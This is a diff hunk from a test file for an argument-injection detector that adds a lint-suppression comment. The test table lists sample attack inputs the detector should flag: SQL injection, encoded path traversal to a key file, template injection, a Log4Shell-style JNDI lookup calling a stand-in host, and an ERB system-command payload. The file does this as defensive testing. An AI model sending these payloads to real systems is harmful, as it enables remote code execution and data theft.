@@ -111,6 +111,7 @@ describe('argument_injection', () => {
     ['sql', { q: '1 or 1=1' }],
     ['path_traversal', { file: '%2e%2e%2fsecret.key' }],
     ['template', { greeting: 'Hello {{7*7}}' }],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself.
     ['template', { ua: '${jndi:ldap://evil.example/a}' }],
     ['template', { body: '<%= system("id") %>' }],
   ])('fires on %s patterns (%j)', (category, args) => {
